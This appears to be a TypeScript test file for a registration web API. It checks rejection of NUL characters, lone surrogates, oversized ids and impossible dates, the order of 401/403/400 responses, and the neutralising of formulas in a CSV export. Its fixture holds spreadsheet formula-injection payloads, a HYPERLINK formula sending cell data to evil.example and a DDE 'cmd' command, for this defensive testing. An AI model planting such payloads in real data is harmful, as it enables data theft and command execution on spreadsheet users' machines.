/**
 * Input that once answered 500: NUL characters and lone surrogates in text, ids beyond PostgreSQL's integer
 * range, impossible calendar dates; the order of the checks (401, then 403, then 400); spreadsheet formulas in
 * the CSV export.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { today } from '../../domain/dates.ts';
import { candidatePayload, orderPayload } from '../support/orders.ts';
import { paidOrder } from '../support/registrations.ts';
import { type TestApp, createTestApp } from '../support/test-app.ts';
import { signedInAdmin, signedInUser, signupPayload } from '../support/users.ts';

let t: TestApp;
let admin: Awaited<ReturnType<typeof signedInAdmin>>;
let plain: Awaited<ReturnType<typeof signedInUser>>;
let candidateId: number;
let homologationId: number;

beforeAll(async () => {
  t = await createTestApp();
  admin = await signedInAdmin(t);
  plain = await signedInUser(t);
  const order = await paidOrder(t, plain, {
    candidats: [
      candidatePayload({ nom: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', prenom: '@SUM(1+1)' }),
      candidatePayload({ nom: "+cmd|' /C calc'!A0", prenom: '-2+3', email: 'b@example.org' }),
    ],
    avertissement_mineurs: false,
  });
  candidateId = order.candidats[0]!.id;
  const scanned = await t.app.inject({
    method: 'POST',
    url: '/api/admin/scan',
    headers: admin.auth,
    payload: { text: order.candidats[0]!.reference, confirm: true },
  });
  expect(scanned.statusCode).toBe(200);
  const homologated = await t.app.inject({
    method: 'POST',
    url: `/api/admin/candidates/${candidateId}/homologate`,
    headers: admin.auth,
    payload: { date_passage: today(), epreuve_realisee: 'cingle' },
  });
  expect(homologated.statusCode).toBe(200);
  homologationId = homologated.json().homologationId;
});
afterAll(async () => {
  await t.close();
});

const NUL = 'Mar\u0000tin';
const SURROGATE = 'Mar\ud800tin';

describe('text the database cannot keep', () => {
  it.each([
    ['a NUL character', NUL],
    ['a lone surrogate', SURROGATE],
  ])('is refused with 400 invalid_characters: %s', async (_name, bad) => {
    const requests = [
      { method: 'POST', url: '/api/signup', payload: signupPayload({ nom: bad }), field: 'nom' },
      {
        method: 'PUT',
        url: '/api/me',
        headers: plain.auth,
        payload: { ...signupPayload({ adresse: bad }), email: plain.email },
        field: 'adresse',
      },
      {
        method: 'POST',
        url: '/api/orders',
        headers: plain.auth,
        payload: orderPayload({
          candidats: [candidatePayload({ ville: bad })],
          avertissement_mineurs: false,
        }),
        field: 'candidats.0.ville',
      },
      {
        method: 'PUT',
        url: '/api/orders/draft',
        headers: plain.auth,
        payload: { candidats: [{ nom: bad }] },
        field: 'candidats.0.nom',
      },
      {
        method: 'PUT',
        url: '/api/orders/draft',
        headers: plain.auth,
        payload: { candidats: [], adresse_livraison: { ville: bad } },
        field: 'adresse_livraison.ville',
      },
      {
        method: 'PUT',
        url: `/api/admin/homologations/${homologationId}`,
        headers: admin.auth,
        payload: { date_passage: null, commentaire: bad },
        field: 'commentaire',
      },
      {
        method: 'POST',
        url: `/api/admin/candidates/${candidateId}/reject`,
        headers: admin.auth,
        payload: { reason: bad },
        field: 'reason',
      },
    ] as const;
    for (const { field, ...request } of requests) {
      const response = await t.app.inject(request);
      expect(response.statusCode, `${request.method} ${request.url}`).toBe(400);
      expect(response.json().error.fields?.[field], `${request.method} ${request.url}`).toBe(
        'validation:invalid_characters',
      );
    }
  });

  it('refuses a NUL character in a search (a URL cannot carry a lone surrogate)', async () => {
    for (const url of [
      '/api/admin/candidates?list=traitements&q=Mar%00tin',
      '/api/admin/candidates.csv?list=traitements&q=Mar%00tin',
    ]) {
      const response = await t.app.inject({ method: 'GET', url, headers: admin.auth });
      expect(response.statusCode, url).toBe(400);
      expect(response.json().error.fields, url).toEqual({ q: 'validation:invalid_characters' });
    }
    const laureates = await t.app.inject({ method: 'GET', url: '/api/laureates?q=Mar%00tin' });
    expect(laureates.statusCode).toBe(400);
  });

  it('keeps the draft as sent when every text is valid', async () => {
    const draft = { candidats: [{ nom: 'Émile 🚴', ville: 'Bédoin' }], mode_livraison: 'email' };
    const saved = await t.app.inject({
      method: 'PUT',
      url: '/api/orders/draft',
      headers: plain.auth,
      payload: draft,
    });
    expect(saved.statusCode).toBe(204);
    const read = await t.app.inject({ method: 'GET', url: '/api/orders/draft', headers: plain.auth });
    expect(read.json().draft).toEqual(draft);
  });
});

describe('ids beyond the database integer range', () => {
  it.each([
    ['GET', '/api/laureates/2147483648'],
    ['GET', '/api/laureates/99999999999999999999'],
    ['GET', '/api/orders/2147483648'],
    ['GET', '/api/orders/2147483648/status'],
    ['GET', '/documents/2147483648'],
    ['GET', '/api/admin/candidates/2147483648'],
    ['POST', '/api/admin/candidates/2147483648/reject', { reason: 'x' }],
    [
      'POST',
      '/api/admin/candidates/2147483648/homologate',
      { date_passage: '2026-07-01', epreuve_realisee: 'cingle' },
    ],
    ['PUT', '/api/admin/homologations/2147483648', { date_passage: null, commentaire: null }],
    ['POST', '/api/admin/candidates/processed', { ids: [2147483648] }],
    ['POST', '/api/admin/candidates/labels', { ids: [1, 2 ** 53] }],
    ['POST', '/api/payments/test/2147483648/approve'],
    ['GET', '/api/payments/test/return?order=2147483648'],
  ])('%s %s answers 404, as for a missing object', async (method, url, payload?: object) => {
    const headers = url.includes('/admin/') ? admin.auth : plain.auth;
    const response = await t.app.inject({ method: method as 'GET', url, headers, payload });
    expect(response.statusCode).toBe(404);
    expect(response.json().error.code).toBe('not_found');
  });

  it('still answers 400 for ids that are not whole positive numbers', async () => {
    for (const id of ['0', '-1', '1.5', 'abc']) {
      const response = await t.app.inject({ method: 'GET', url: `/api/laureates/${id}` });
      expect(response.statusCode, id).toBe(400);
    }
  });
});

describe('impossible calendar dates', () => {
  it.each(['from', 'to'])('the admin %s filter refuses 2024-02-30 with 400', async (filter) => {
    const response = await t.app.inject({
      method: 'GET',
      url: `/api/admin/candidates?list=traitements&${filter}=2024-02-30`,
      headers: admin.auth,
    });
    expect(response.statusCode).toBe(400);
    expect(Object.keys(response.json().error.fields)).toEqual([filter]);
    const csv = await t.app.inject({
      method: 'GET',
      url: `/api/admin/candidates.csv?list=traitements&${filter}=2023-02-29`,
      headers: admin.auth,
    });
    expect(csv.statusCode).toBe(400);
  });

  it('the homologation correction refuses 2024-02-30 with a localized message', async () => {
    const response = await t.app.inject({
      method: 'PUT',
      url: `/api/admin/homologations/${homologationId}`,
      headers: admin.auth,
      payload: { date_passage: '2024-02-30', commentaire: null },
    });
    expect(response.statusCode).toBe(400);
    expect(response.json().error.fields).toEqual({ date_passage: 'validation:date_invalid' });
  });
});

describe('authentication and permission come before the body', () => {
  it('answers 401 to a signed-out caller, whatever the body', async () => {
    for (const [method, url] of [
      ['PUT', '/api/me'],
      ['PUT', '/api/me/password'],
      ['PUT', '/api/orders/draft'],
      ['POST', '/api/orders'],
      ['PUT', '/api/me/public-display'],
      ['POST', '/api/admin/candidates/1/homologate'],
    ] as const) {
      const response = await t.app.inject({ method, url, payload: { nom: 42 } });
      expect(response.statusCode, `${method} ${url}`).toBe(401);
      expect(response.json().error).toEqual({ code: 'unauthorized', message: 'Sign in first' });
      const malformed = await t.app.inject({
        method,
        url,
        headers: { 'content-type': 'application/json' },
        payload: '{"nom":',
      });
      expect(malformed.statusCode, `${method} ${url} malformed`).toBe(401);
    }
  });

  it('answers 403 to a plain user sending a bad body to an admin route, naming no field', async () => {
    for (const [method, url] of [
      ['POST', '/api/admin/candidates/1/homologate'],
      ['PUT', '/api/admin/homologations/1'],
      ['POST', '/api/admin/candidates/processed'],
      ['GET', '/api/admin/candidates?list=nothing&from=2024-02-30'],
      ['GET', '/api/admin/candidates/2147483648'],
    ] as const) {
      const response = await t.app.inject({ method, url, headers: plain.auth, payload: { date_passage: 7 } });
      expect(response.statusCode, `${method} ${url}`).toBe(403);
      expect(response.json().error).toEqual({ code: 'forbidden', message: 'Access denied' });
    }
  });
});

describe('CSV export', () => {
  /** The homologated candidate is in the history list, the other one, its kit emailed after payment, processed. */
  async function exported(): Promise<string> {
    const bodies = [];
    for (const list of ['history', 'traites']) {
      const csv = await t.app.inject({
        method: 'GET',
        url: `/api/admin/candidates.csv?list=${list}&sort=nom`,
        headers: admin.auth,
      });
      expect(csv.statusCode).toBe(200);
      bodies.push(csv.body.replace(/^\uFEFF/, ''));
    }
    return bodies.join('');
  }

  it('neutralises cells that a spreadsheet would run as formulas', async () => {
    const body = await exported();
    expect(body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
    expect(body).toContain(`'@SUM(1+1)`);
    expect(body).toContain(`'+cmd|' /C calc'!A0`);
    expect(body).toContain(`'-2+3`);
    // No cell starts with a formula character unless neutralised.
    const cells = body.split(/[,\n]/);
    expect(cells.filter((cell) => /^"?[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('leaves numbers and ordinary text alone', async () => {
    const body = await exported();
    const line = body.split('\n').find((row) => row.includes('HYPERLINK'))!;
    // The homologation number is a number column: written as is, never prefixed.
    expect(line).toMatch(/,fr,\d+,\d{4}-\d{2}-\d{2},[^,]*,\r?$/);
    expect(body).toContain(',Malaucène,');
  });
});
